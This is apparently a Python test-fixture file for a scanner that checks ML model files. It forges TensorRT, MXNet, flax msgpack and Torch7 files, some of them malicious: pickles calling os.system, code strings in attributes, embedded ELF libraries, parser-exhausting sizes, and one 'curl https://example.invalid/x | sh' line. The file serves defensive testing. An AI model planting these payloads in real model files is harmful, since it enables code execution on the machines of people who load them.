"""TensorRT, MXNet, MessagePack (flax) and Torch7 files, honest and not."""

from __future__ import annotations

import json
import struct
from typing import Any

from stannary.testing.forges import forge
from stannary.testing.forges._format_writers import constant, msgpack

_PICKLE = b"\x80\x02cposix\nsystem\nX\x0d\x00\x00\x00echo stannary\x85R."
_ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 0, 0, 0, 64, 56, 0, 64, 0, 0)
_CUBIN = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 190, 1, 0, 0, 0, 0, 64, 56, 0, 64, 0, 0)


def _register(family: str, filename: str, forged: dict[str, tuple[bytes, bool | None]]) -> None:
    for name, (content, malicious) in forged.items():
        forge(name, filename=filename, family=family, malicious=malicious)(constant(content))


_register(
    "TensorRT",
    "model.engine",
    {
        "tensorrt.engine": (b"ftrt" + bytes(60) + _CUBIN + b"EfficientNMS_TRT\0" + bytes(64), None),
        "tensorrt.library": (b"ftrt" + bytes(60) + _ELF + bytes(64), True),
        "tensorrt.bare_library": (b"ftrt" + bytes(60) + b"libcustom_ops.so\0" + bytes(64), True),
        "tensorrt.path": (b"ftrt" + bytes(60) + b"/tmp/plugins/libcustom.so\0" + bytes(64), True),
        "tensorrt.code": (b"ptrt" + bytes(60) + b"import os; os.system('echo stannary')\0" + bytes(64), True),
    },
)


def _ndarray(dims: list[int], data: bytes, *, kind: int = 0) -> bytes:
    return (
        struct.pack("<Iii", 0xF993FAC9, 0, len(dims))
        + b"".join(struct.pack("<q", d) for d in dims)
        + struct.pack("<iii", 1, 0, kind)
        + data
    )


def _params(arrays: list[bytes], names: list[bytes], *, count: int | None = None, tail: bytes = b"") -> bytes:
    head = struct.pack("<QQQ", 0x112, 0, len(arrays) if count is None else count)
    return head + b"".join(arrays) + struct.pack("<Q", len(names)) + b"".join(struct.pack("<Q", len(n)) + n for n in names) + tail


_register(
    "MXNet",
    "model-0000.params",
    {
        "mxnet.params": (_params([_ndarray([2, 2], bytes(16)), _ndarray([4], bytes(4), kind=3)], [b"arg:w", b"arg:b"]), False),
        "mxnet.count": (_params([_ndarray([2, 2], bytes(16))], [b"arg:w"], count=1 << 60), True),
        "mxnet.dims": (_params([_ndarray([1 << 40, 1 << 40], bytes(16))], [b"arg:w"]), True),
        "mxnet.rank": (_params([_ndarray([1] * 100, bytes(4))], [b"arg:w"]), True),
        "mxnet.duplicate": (_params([_ndarray([1], bytes(4))] * 2, [b"arg:w", b"arg:w"]), True),
        "mxnet.trailing": (_params([_ndarray([1], bytes(4))], [b"arg:w"], tail=_PICKLE), True),
        "mxnet.truncated": (_params([_ndarray([2, 2], bytes(16))], [b"arg:w"])[:50], None),
    },
)


def _symbol(*nodes: dict[str, Any]) -> bytes:
    body = [{"op": "null", "name": "data", "inputs": []}, *nodes]
    return json.dumps(
        {"nodes": body, "arg_nodes": [0], "heads": [[len(body) - 1, 0, 0]], "attrs": {"mxnet_version": ["int", 10900]}}
    ).encode()


_FC = {"op": "FullyConnected", "name": "fc", "attrs": {"num_hidden": "10"}, "inputs": [[0, 0, 0]]}
_register(
    "MXNet",
    "model-symbol.json",
    {
        "mxnet.symbol": (_symbol(_FC), False),
        "mxnet.opens_library": (
            _symbol({"op": "_own_op", "name": "c", "attrs": {"lib": "/tmp/x.so"}, "inputs": [[0, 0, 0]]}),
            True,
        ),
        "mxnet.custom": (_symbol({"op": "Custom", "name": "c", "attrs": {"op_type": "loader"}, "inputs": [[0, 0, 0]]}), True),
        "mxnet.custom_nested": (
            _symbol({**_FC, "subgraphs": [json.loads(_symbol({"op": "Custom", "name": "c", "attrs": {}, "inputs": []}))]}),
            True,
        ),
        "mxnet.native": (_symbol({"op": "_Native", "name": "n", "attrs": {"info": "0x41414141"}, "inputs": [[0, 0, 0]]}), True),
        "mxnet.attribute_code": (_symbol({**_FC, "attrs": {"hook": "__import__('os').system('echo stannary')"}}), True),
        "mxnet.reference": (_symbol({**_FC, "inputs": [[4000, 0, 0]]}), True),
    },
)


def _array(dtype: str, data: bytes) -> tuple[int, bytes]:
    return 1, msgpack([[len(data)], dtype, data])


_PARAMS = {"params": {"Dense_0": {"kernel": _array("float32", bytes(64)), "bias": _array("bfloat16", bytes(8))}}, "step": 3}
_NUMPY = {"nd": 1, "type": "|O", "kind": b"O", "shape": [1], "data": _PICKLE}
_register(
    "MessagePack and flax",
    "flax_model.msgpack",
    {
        "flax.plain": (msgpack(_PARAMS), False),
        "flax.object_array": (msgpack({"params": {"w": _array("object", _PICKLE)}}), True),
        "flax.object_code": (msgpack({"params": {"w": _array("|O", _PICKLE)}}), True),
        "flax.numpy_object": (msgpack({"w": _NUMPY}), True),
        "flax.class_system": (msgpack({"params": {"__class__": "os.system", "args": ["echo stannary"]}}), True),
        "flax.class_reduced": (msgpack({"state": {"py/reduce": ["subprocess.Popen", "echo stannary"]}}), True),
        "flax.class_unknown": (msgpack({"params": {"__class__": "own_package.loader.Model"}}), None),
        "flax.class_known": (msgpack({"params": {"__class__": "flax.linen.Dense"}, "step": 3}), False),
        "flax.payload": (msgpack({"params": {}, "restore": _PICKLE}), True),
        "flax.elf": (msgpack({"params": {}, "lib": _ELF}), True),
        "flax.extension": (msgpack({"params": {}, "x": (42, b"abcdefgh")}), None),
        "flax.extension_pickle": (msgpack({"params": {}, "x": (42, _PICKLE)}), True),
        "flax.code": (msgpack({"params": {}, "hook": "__import__('os').system('echo stannary')"}), True),
        "flax.trailing": (msgpack(_PARAMS) + _PICKLE, True),
        "flax.truncated": (msgpack(_PARAMS)[:90], None),
        "flax.huge_map": (b"\xdf\xff\xff\xff\xff\xa6params" + b"\xc0" * 64, None),
        "flax.deep": (b"\x81\xa1a" * 3000 + b"\xc0", None),
    },
)


def _number(value: int) -> bytes:
    return struct.pack("<i", value)


def _text(value: bytes) -> bytes:
    return _number(len(value)) + value


def _object(index: int, name: bytes, body: bytes) -> bytes:
    return _number(4) + _number(index) + _text(b"V 1") + _text(name) + body


def _table(index: int, *pairs: tuple[bytes, bytes]) -> bytes:
    return _number(3) + _number(index) + _number(len(pairs)) + b"".join(k + v for k, v in pairs)


def _key(text: bytes) -> bytes:
    return _number(2) + _text(text)


_STORAGE = _object(4, b"torch.FloatStorage", struct.pack("<q", 4) + bytes(16))
_TENSOR = _object(3, b"torch.FloatTensor", _number(1) + struct.pack("<qqq", 4, 1, 1) + _STORAGE)
_MODULE = _object(1, b"nn.Linear", _table(2, (_key(b"weight"), _TENSOR), (_key(b"train"), _number(5) + _number(1))))
_LUA = _number(8) + _number(9) + _text(b"\x1bLJ\x02\x00 os.execute echo stannary") + _table(10)
_register(
    "Torch7",
    "model.t7",
    {
        "torch7.plain": (_MODULE, False),
        "torch7.ascii": (b"4\n1\n3\nV 1\n9\nnn.Linear\n3\n2\n1\n2\n5\ntrain\n5\n1\n", False),
        "torch7.function": (_object(1, b"nn.Linear", _table(2, (_key(b"forward"), _LUA))), True),
        "torch7.ascii_function": (b"8\n1\n24\n\x1bLuaQ os.execute('echo')  \n3\n2\n0\n", True),
        "torch7.class": (_object(1, b"acme.Loader", _table(2)), None),
        "torch7.trailing": (_MODULE + _PICKLE, True),
        "torch7.string_code": (_table(1, (_key(b"init"), _key(b"os.execute; curl https://example.invalid/x | sh"))), True),
        "torch7.truncated": (_MODULE[:80], None),
        "torch7.huge_table": (_number(3) + _number(1) + _number(0x00FFFFFF) + _number(1) + bytes(64), None),
    },
)
